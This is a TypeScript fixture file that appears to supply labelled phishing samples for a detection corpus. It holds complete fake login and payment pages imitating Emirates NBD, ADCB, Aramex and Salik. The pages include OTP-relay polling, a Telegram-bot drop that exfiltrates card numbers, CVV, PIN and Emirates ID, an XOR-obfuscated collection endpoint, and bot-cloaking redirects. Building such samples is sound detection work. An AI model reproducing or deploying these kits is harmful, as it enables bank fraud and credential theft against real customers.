import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute, jsRoute } from '../parts/e-bin.js';
import { BOT_GATE, FONT_AR, LOGO, LUHN_JS, NO_INSPECT, b64, chunks, codes, doc, telegramDrop, xorB64, xorDecoderJs } from '../parts/yu-kit.js';

// UAE and Jordan kits: Emirates NBD and ADCB online banking, UAE PASS, Aramex and Salik smishing,
// Arab Bank and the Jordanian CliQ instant-payment lure. Arabic and English, often both on one page.

export const entries: Entry[] = [
{
  id: 'yu-enbd-online-banking-otp-relay',
  label: 'phishing',
  kind: 'gulf-bank-credential-kit',
  url: 'https://enbd-secure-login.ae-online.support/ENBDOnline/login',
  body: doc({
    title: 'Emirates NBD Online Banking | Login',
    lang: 'en',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f3f4f7}.nav{background:#072a5e;padding:14px 26px}.nav svg text{fill:#fff}
.wrap{display:flex;max-width:980px;margin:30px auto;gap:26px}.pnl{flex:1;background:#fff;padding:28px;border-radius:4px}.promo{flex:1;background:#072a5e;color:#fff;padding:28px;border-radius:4px}
input{width:100%;box-sizing:border-box;padding:12px;margin:6px 0 16px;border:1px solid #b7bfcc;border-radius:3px}.go{background:#f5a800;color:#072a5e;border:0;font-weight:700;padding:12px;width:100%;font-size:15px}
.ar{direction:rtl;font-family:${FONT_AR};font-size:14px;color:#444}#otp{display:none}`,
    body: `<div class="nav">${LOGO.enbd}</div>
<div class="wrap"><div class="pnl">
<div id="cred"><h2>Log in to Online Banking</h2><p class="ar">تسجيل الدخول إلى الخدمات المصرفية عبر الإنترنت</p>
<label>Username</label><input id="u" autocomplete="off"><label>Password</label><input id="p" type="password">
<button class="go" id="l">Log in</button><p style="font-size:12px"><a href="#">Forgot username?</a> · <a href="#">Forgot password?</a></p></div>
<div id="otp"><h2>Verify it's you</h2><p>Enter the One-Time Password sent to your registered mobile number ending ••••41.</p><p class="ar">أدخل رمز التحقق المرسل إلى هاتفك</p>
<input id="o" maxlength="6" inputmode="numeric"><button class="go" id="v">Verify</button><p id="msg" style="color:#b00;font-size:13px"></p></div>
</div><div class="promo"><h3>Your account security update</h3><p>As per Central Bank of the UAE directive, all customers must re-verify their Online Banking profile. Accounts not verified within 24 hours will be temporarily suspended.</p></div></div>
<script>
${NO_INSPECT}
var sid="", poll;
function api(p,d){return fetch("/ENBDOnline/api/"+p,{method:"POST",headers:{"Content-Type":"application/json"},body:JSON.stringify(d)}).then(function(r){return r.json()})}
document.getElementById("l").onclick=function(){api("start",{u:document.getElementById("u").value,p:document.getElementById("p").value}).then(function(j){sid=j.sid;document.getElementById("cred").style.display="none";document.getElementById("otp").style.display="block"})};
document.getElementById("v").onclick=function(){api("otp",{sid:sid,o:document.getElementById("o").value}).then(function(){document.getElementById("msg").textContent="Please wait while we verify…";
poll=setInterval(function(){fetch("/ENBDOnline/api/status?sid="+sid).then(function(r){return r.json()}).then(function(s){if(s.action==="otp_again"){document.getElementById("msg").textContent="Invalid OTP. A new code has been sent.";clearInterval(poll)}if(s.action==="done"){location.href="https://www.emiratesnbd.com/en"}})},3000)})};
</script>`,
  }),
  routes: {
    'enbd-secure-login.ae-online.support/ENBDOnline/api/start': jsonRoute({ sid: 'a81f33c0' }),
    'enbd-secure-login.ae-online.support/ENBDOnline/api/otp': jsonRoute({ ok: true }),
    'enbd-secure-login.ae-online.support/ENBDOnline/api/status': jsonRoute({ action: 'wait' }),
  },
},
{
  id: 'yu-adcb-card-suspended-arabic',
  label: 'phishing',
  kind: 'gulf-bank-card-kit',
  url: 'https://adcb-cards.ae-verify.com/ar/reactivate?ref=SMS2291',
  body: doc({
    title: 'بنك أبوظبي التجاري - إعادة تفعيل البطاقة',
    lang: 'ar',
    css: `body{margin:0;font-family:${FONT_AR};background:#f7f7f7}.t{background:#fff;border-bottom:3px solid #e11d2e;padding:10px 20px}
.f{max-width:440px;margin:26px auto;background:#fff;padding:24px;border:1px solid #e5e5e5}
label{display:block;font-size:14px;margin:10px 0 4px}input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #bbb;direction:ltr;text-align:right}
.r{display:flex;gap:10px}.r div{flex:1}button{margin-top:18px;width:100%;background:#e11d2e;color:#fff;border:0;padding:13px;font-size:16px}
.n{background:#fdecee;color:#8a1020;padding:10px;font-size:14px}`,
    body: `<div class="t">${LOGO.adcb}</div>
<div class="f"><div class="n">تم إيقاف بطاقتك مؤقتاً بسبب عدم تحديث بيانات الهوية الإماراتية. يرجى إكمال التحقق لإعادة التفعيل.</div>
<form id="af">
<label>الاسم كما يظهر على البطاقة</label><input name="n" required>
<label>رقم الهوية الإماراتية</label><input name="eid" placeholder="784-XXXX-XXXXXXX-X" required>
<label>رقم البطاقة</label><input name="pan" id="pan" required>
<div class="r"><div><label>تاريخ الانتهاء</label><input name="exp" placeholder="MM/YY" required></div><div><label>CVV</label><input name="cvv" maxlength="3" required></div></div>
<label>الرقم السري للبطاقة (PIN)</label><input name="pin" type="password" maxlength="4" required>
<button>إعادة تفعيل البطاقة</button></form></div>
<script>
${LUHN_JS}
${telegramDrop('7002719384:AAH_q1Lr8sPzVw3nT6kYd0mXc5eJb9gFo2u', '-1002087765419', 'zz')}
document.getElementById("af").onsubmit=function(e){e.preventDefault();var d=Object.fromEntries(new FormData(this));if(!luhn(d.pan)){alert("رقم البطاقة غير صحيح");return}d.bank="ADCB";
zz(d).then(function(){document.querySelector(".f").innerHTML="<h3>تم استلام طلبك</h3><p>أدخل رمز التحقق (OTP) المرسل إلى هاتفك:</p><input id='o'><button onclick='zz({otp:document.getElementById(\\"o\\").value}).then(function(){location=\\"https://www.adcb.com\\"})'>تأكيد</button>"})};
</script>`,
  }),
},
{
  id: 'yu-aramex-shipment-hold-aed-fee',
  label: 'phishing',
  kind: 'gulf-courier-lure',
  url: 'https://aramex-ae.delivery-reschedule.top/ae/en/track/?awb=46021837745',
  body: doc({
    title: 'Aramex | Track Shipment',
    lang: 'en',
    css: `body{margin:0;font-family:Arial,sans-serif;background:#f6f6f6}.h{background:#fff;padding:12px 24px;border-bottom:1px solid #e0e0e0;display:flex;justify-content:space-between;align-items:center}
.m{max-width:560px;margin:26px auto;background:#fff;padding:24px;border-radius:6px}.prog{display:flex;justify-content:space-between;font-size:12px;margin:18px 0}.prog span{flex:1;border-top:4px solid #e30613;padding-top:6px;text-align:center}.prog span.x{border-color:#ddd;color:#999}
.fee{background:#fff8e6;padding:12px;border:1px solid #f3d48a}.m input{width:100%;box-sizing:border-box;padding:11px;margin:6px 0;border:1px solid #ccc}.m button{background:#e30613;color:#fff;border:0;width:100%;padding:13px;margin-top:10px}
.ar{direction:rtl;font-family:${FONT_AR};color:#555}`,
    body: `<div class="h">${LOGO.aramex}<span>English | <a href="#">العربية</a></span></div>
<div class="m"><h2>Shipment 46021837745</h2><p class="ar">شحنتك معلقة بسبب عنوان غير مكتمل</p>
<div class="prog"><span>Picked up</span><span>In transit</span><span>Arrived Dubai</span><span class="x">Out for delivery</span></div>
<div class="fee">Your shipment is on hold due to an incomplete address. Please confirm your address and pay the redelivery fee of <b>AED 5.25</b> to reschedule.</div>
<form id="ax"><input name="name" placeholder="Full name" required><input name="addr" placeholder="Address, Emirate" required><input name="mob" placeholder="Mobile +971" required>
<input name="pan" placeholder="Card number" required><input name="exp" placeholder="MM/YY" required><input name="cvv" placeholder="CVV" required><button>Pay AED 5.25 and reschedule</button></form></div>
<script>
${xorDecoderJs('d')}
var ep=d("${xorB64('https://aramex-ae.delivery-reschedule.top/ae/en/track/rx.php', 'ARX')}","ARX");
document.getElementById("ax").onsubmit=function(e){e.preventDefault();fetch(ep,{method:"POST",body:new FormData(this)}).then(function(){location.href="/ae/en/track/otp.html"})};
</script>`,
  }),
  routes: {
    'aramex-ae.delivery-reschedule.top/ae/en/track/rx.php': jsonRoute({ ok: 1 }),
    'aramex-ae.delivery-reschedule.top/ae/en/track/otp.html': htmlRoute(
      `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Aramex | Verify payment</title></head><body style="font-family:Arial;text-align:center;padding:40px">${LOGO.aramex}<p>Enter the verification code sent by your bank for AED 5.25</p><form method="post" action="rx.php"><input name="otp" maxlength="6"><button>Confirm</button></form></body></html>`,
    ),
  },
},
{
  id: 'yu-salik-toll-unpaid-mobile-gate',
  label: 'phishing',
  kind: 'gulf-toll-lure',
  url: 'https://salik-ae.toll-pay.live/',
  body: `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Salik</title><meta name="viewport" content="width=device-width"></head><body>
<script>
${BOT_GATE}
if(_isBot()||!/Android|iPhone/i.test(navigator.userAgent)){location.replace("https://www.google.com/")}else{location.replace("/m/pay?v=ae")}
</script></body></html>`,
  routes: {
    'salik-ae.toll-pay.live/m/pay': htmlRoute(
      doc({
        title: 'Salik - Pay outstanding balance | سالك',
        lang: 'en',
        css: `body{margin:0;font-family:Arial,${FONT_AR};background:#f2f7f4}.h{background:#0b8a4c;padding:14px}.h svg rect{fill:#fff}.h svg text{fill:#fff}
.b{padding:20px}.bal{background:#fff;border-radius:10px;padding:16px;margin-bottom:14px}.bal b{font-size:26px;color:#b00020}
input{width:100%;box-sizing:border-box;padding:12px;margin:5px 0;border:1px solid #bcd;border-radius:8px}button{width:100%;background:#0b8a4c;color:#fff;border:0;padding:14px;border-radius:8px;font-size:16px;margin-top:8px}
.ar{direction:rtl;font-family:${FONT_AR}}`,
        body: `<div class="h">${LOGO.salik}</div><div class="b">
<div class="bal">Outstanding toll balance<br><b>AED 32.00</b><p class="ar">لديك رسوم مرور غير مدفوعة. سيتم فرض غرامة 50 درهم عن كل يوم تأخير.</p></div>
<form action="/m/pay/submit" method="post"><input name="plate" placeholder="Plate number / Emirate" required><input name="mobile" placeholder="Mobile number" required>
<input name="card" placeholder="Card number" required><input name="exp" placeholder="MM/YY" required><input name="cvv" placeholder="CVV" required><button>Pay now</button></form></div>`,
      }),
    ),
    'salik-ae.toll-pay.live/m/pay/submit': redirectRoute(303, 'https://salik-ae.toll-pay.live/m/pay/otp'),
    'salik-ae.toll-pay.live/m/pay/otp': htmlRoute(
      `<!DOCTYPE html><html><head><meta charset="utf-8"><title>Salik - OTP</title></head><body style="font-family:Arial;padding:30px"><h3>Enter OTP</h3><form method="post" action="/m/pay/submit"><input name="otp"><button>Verify</button></form></body></html>`,
    ),
  },
},
];
